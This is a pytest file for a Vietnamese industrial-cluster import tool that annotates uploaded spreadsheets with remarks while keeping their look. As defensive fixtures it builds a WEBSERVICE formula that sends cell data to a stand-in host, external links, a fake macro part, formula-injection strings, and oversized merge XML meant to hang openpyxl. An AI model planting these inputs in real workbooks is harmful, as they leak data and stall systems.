"""The officer's file with remarks: beside the cells, in the look of the file, and harmless."""

from datetime import UTC, date, datetime
from io import BytesIO
from zipfile import ZipFile

import openpyxl
import pytest
import xlsxwriter
from openpyxl.worksheet.worksheet import Worksheet

from app.core.messages import Catalogue
from app.http.languages import CATALOGUES
from app.imports import looks
from app.imports.contexts import Given
from app.imports.remarked import remarked
from app.imports.workbooks import read_workbook
from tests.support.import_facts import SAMPLES
from tests.support.import_files import packed, read, replaced, xlsx

VI: Catalogue = CATALOGUES["vi"]
TABLE = (
    ("Số liệu chốt đến ngày 30/6/2026",),
    ("TT", "Tên CCN", "Diện tích (ha)", "Màu", "Đất công nghiệp (ha)"),
    (1, "CCN Một", "12,5", 3, "x"),
    (2, "CCN Hai", "mười", 4, 9),
    (3, "CCN Ba", "45.125", 5, None),
    (None, "Tổng cộng", 40, None, None),
)


def written(content: bytes, catalogue: Catalogue = VI, name: str = "f") -> openpyxl.Workbook:
    result = remarked(content, read(content, name=name), catalogue)
    return openpyxl.load_workbook(BytesIO(result))


def first(book: openpyxl.Workbook) -> Worksheet:
    assert isinstance(book.active, Worksheet)
    return book.active


def comments(sheet: Worksheet) -> dict[str, str]:
    cells = (cell for row in sheet.iter_rows() for cell in row)
    return {cell.coordinate: cell.comment.text for cell in cells if cell.comment}


def titled(sheet: Worksheet, title: str = "Nhận xét") -> str:
    """Return the cell of the title of the remarks."""
    cells = (cell for row in sheet.iter_rows() for cell in row)
    return next(cell.coordinate for cell in cells if str(cell.value).startswith(title))


def colour(sheet: Worksheet, cell: str) -> str:
    return str(sheet[cell].fill.start_color.rgb)[2:]


def test_remarks_stand_beside_the_cells_in_vietnamese() -> None:
    sheet = first(written(xlsx(TABLE)))
    assert titled(sheet) == "F2"
    assert sheet["F3"].value == "'x' được hiểu là chưa rõ, không phải 0.\nChưa có trong hệ thống."
    notes = comments(sheet)
    assert notes["E3"] == "'x' được hiểu là chưa rõ, không phải 0."
    assert notes["C4"].startswith("'mười' ")
    assert notes["C6"].startswith("C6: tệp ghi 40; tính lại được ")
    assert (colour(sheet, "C4"), colour(sheet, "F5")) == ("FFEB9C", "FFC7CE")
    # What the officer wrote stays as it was.
    assert [cell.value for cell in sheet[3]][:5] == [1, "CCN Một", "12,5", 3, "x"]


def test_they_are_in_english_where_no_catalogue_says_otherwise() -> None:
    sheet = first(written(xlsx(TABLE), {}))
    assert titled(sheet, "Remarks") == "F2"
    assert comments(sheet)["E3"] == "'x' is read as unknown, not as 0."


def test_the_legend_says_what_colours_mean_and_what_concerns_the_file() -> None:
    content = xlsx(TABLE)
    report = read(content, given=Given())
    book = openpyxl.load_workbook(BytesIO(remarked(content, report, VI)))
    legend = book["Chú giải"]
    lines = [(colour(legend, f"A{row}"), legend[f"B{row}"].value) for row in range(1, 5)]
    assert [one for one, _ in lines] == ["FFC7CE", "FFD8A8", "FFEB9C", "C6EFCE"]
    assert lines[0][1] == "Có lỗi: không được ghi nhận cho đến khi sửa."
    texts = [cell.value for cell in legend["B"]]
    assert any("--province" in str(text) for text in texts)


@pytest.mark.parametrize("path", sorted(p for p in SAMPLES.iterdir() if p.suffix != ".json"))
def test_every_remark_on_a_sample_has_its_place(path: object) -> None:
    content = path.read_bytes()  # type: ignore[attr-defined]
    report = read(content, name=str(path), given=Given())
    book = openpyxl.load_workbook(BytesIO(remarked(content, report, VI)))
    sheet = first(book)
    place = sheet[titled(sheet)].column
    shown = {row: str(sheet.cell(row, place).value) for row in range(1, sheet.max_row + 1)}
    legend = [cell.value for cell in book["Chú giải"]["B"]]
    headers = " ".join(comments(sheet).values())
    for remark in {id(r): r for r in (*report.all_warnings, *report.all_errors)}.values():
        text = remark.message.render(VI)
        assert text in shown.get(remark.row or 0, "") or text in legend or text in headers


def styled() -> bytes:
    """Return a workbook with a look, and with all that is to be left behind."""
    content = BytesIO()
    with xlsxwriter.Workbook(content) as book:
        sheet = book.add_worksheet("Biểu")
        look = book.add_format({"bold": True, "bg_color": "#00FF00", "num_format": "0.0"})
        for row, cells in enumerate(TABLE):
            sheet.write_row(row, 0, cells, look if row == 1 else None)
        sheet.merge_range("B8:D8", "Ghi chú: số liệu sơ bộ")
        sheet.write_formula("C9", "=SUM(C3:C5)", None, 99)
        sheet.write_formula("C10", '=WEBSERVICE("http://a.example/"&B3)', None, "x")
        sheet.write_url("B3", "http://a.example/", string="CCN Một")
        sheet.set_column("B:B", 42)
        sheet.data_validation("A3", {"validate": "list", "source": "=[other.xlsx]S!$A$1:$A$9"})
        rule = {"type": "formula", "criteria": '=[other.xlsx]S!$A$1="x"', "format": look}
        sheet.conditional_format("A1:C9", rule)
        chart = book.add_chart({"type": "column"})
        chart.add_series({"values": "=Biểu!$C$3:$C$5"})
        sheet.insert_chart("H2", chart)
        sheet.write_comment("C4", "Đã hỏi lại")
        sheet.add_table("J1:K3")
        book.define_name("Ngoài", "=[other.xlsx]S!$A$1")
    return content.getvalue()


def test_the_look_of_the_file_is_kept() -> None:
    sheet = first(written(styled()))
    assert sheet.title == "Biểu"
    assert sheet["B2"].font.bold
    assert colour(sheet, "B2") == "00FF00"
    assert sheet.column_dimensions["B"].width == pytest.approx(42, abs=1)
    assert [str(area) for area in sheet.merged_cells.ranges] == ["B8:D8"]
    assert comments(sheet)["C4"].startswith("Đã hỏi lại\n'mười' ")


def test_nothing_but_cells_goes_along() -> None:
    content = styled()
    macro = packed({**_parts(content), "xl/vbaProject.bin": b"macro"})
    result = remarked(macro, read(macro), VI)
    parts = _parts(result)
    folders = {name.rpartition("/")[0] for name in parts}
    assert folders <= {
        "", "_rels", "docProps", "xl", "xl/_rels", "xl/theme", "xl/worksheets",
        "xl/worksheets/_rels", "xl/comments", "xl/drawings",
    }  # fmt: skip
    assert not [name for name in parts if "drawing" in name and not name.endswith(".vml")]
    text = b"".join(parts.values())
    for left in (b"<f>", b"WEBSERVICE", b"a.example", b"other.xlsx", b"macro", b"External"):
        assert left not in text
    values = [cell.value for cell in first(openpyxl.load_workbook(BytesIO(result)))["C"]]
    assert values[8:10] == [99, "x"]


def _parts(content: bytes) -> dict[str, bytes]:
    with ZipFile(BytesIO(content)) as file:
        return {name: file.read(name) for name in file.namelist()}


def test_text_stays_text() -> None:
    rows = (*TABLE[:2], (1, "=CCN Một", "=1+1\x07", None, "@x"))
    text = "\n".join(";".join("" if c is None else str(c) for c in row) for row in rows)
    sheet = first(written(text.replace("\x07", "").encode()))
    assert [cell.data_type for cell in sheet[3] if cell.value] == ["s"] * 5
    assert sheet["B3"].value == "=CCN Một"


def test_other_formats_are_written_as_they_were_read() -> None:
    path = SAMPLES.parent / "import-formats" / "clusters.xls"
    book = written(path.read_bytes())
    sheet = first(book)
    assert book.sheetnames[:2] == ["30.6.2026", "nháp"]
    assert book["nháp"].sheet_state == "hidden"
    assert sheet.row_dimensions[5].hidden
    assert any(cell.number_format == "0.##%" for row in sheet.iter_rows() for cell in row)


HOSTILE = {
    "merge": '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>',
    "link": '<hyperlinks><hyperlink ref="A1:XFD1048576" location="x"/></hyperlinks>',
    "broken": '<mergeCells count="1"><mergeCell ref="nowhere"/></mergeCells>',
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_what_would_make_openpyxl_work_for_ever_loses_its_look(kind: str) -> None:
    sheet = "xl/worksheets/sheet1.xml"
    content = xlsx(TABLE)
    part = _parts(content)[sheet].replace(b"</sheetData>", f"</sheetData>{HOSTILE[kind]}".encode())
    result = first(written(replaced(content, sheet, part)))
    assert titled(result) == "F2"
    assert not result.merged_cells.ranges


def test_remarks_stand_where_merged_cells_reach_beyond_the_table() -> None:
    rows = (*TABLE[:2], (1, "CCN Một", "12,5", 3, "x"), (2, "CCN Hai", "mười", 4, 9))
    content = xlsx(rows, merges=("E2:G2", "E3:F4", "C4:D4"))
    sheet = first(written(content))
    assert titled(sheet) == "F2"
    assert str(sheet["F3"].value).startswith("'x' ")
    assert [str(area) for area in sheet.merged_cells.ranges] == ["C4:D4"]
    assert list(comments(sheet)) == ["D2", "E3", "C4"]


def test_an_empty_cell_far_away_makes_no_cells_up_to_it() -> None:
    sheet = "xl/worksheets/sheet1.xml"
    content = xlsx(TABLE)
    far = b'<row r="4000"><c r="GR4000" s="0"/></row></sheetData>'
    content = replaced(content, sheet, _parts(content)[sheet].replace(b"</sheetData>", far))
    workbook = read_workbook(content, "f")
    _, copy = looks.copied(content, workbook, workbook.sheets[0].name)
    assert copy.max_row == 4000
    assert len(copy._cells) < 100


def test_what_has_too_many_elements_loses_its_look(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(looks, "_MOST_ELEMENTS", 10)
    sheet = first(written(styled()))
    assert titled(sheet)
    assert not sheet["B2"].font.bold


def test_dates_stay_dates() -> None:
    rows = [["TT", "Tên CCN", "Ngày", "Diện tích (ha)"], [1, "CCN Một", date(2026, 6, 30), 5]]
    text = first(written(xlsx(rows)))
    assert text["C2"].value.date() == date(2026, 6, 30)


@pytest.mark.parametrize("name", ["f.xlsx", "f.csv"])
def test_the_same_report_makes_the_same_bytes_on_another_day(
    name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Their digest is the entity tag, by which a client knows that it has them."""
    content = xlsx(TABLE) if name == "f.xlsx" else "TT;Tên CCN\n1;CCN Một\n".encode()
    report = read(content, name=name)
    files = []
    for day in (date(2026, 1, 1), date(2027, 1, 1)):
        moment = datetime(day.year, day.month, day.day, tzinfo=UTC).timestamp()
        monkeypatch.setattr("time.time", lambda moment=moment: moment)
        files.append(remarked(content, report, VI, name))
    assert files[0] == files[1]
    with ZipFile(BytesIO(files[0])) as archive:
        assert {member.date_time for member in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
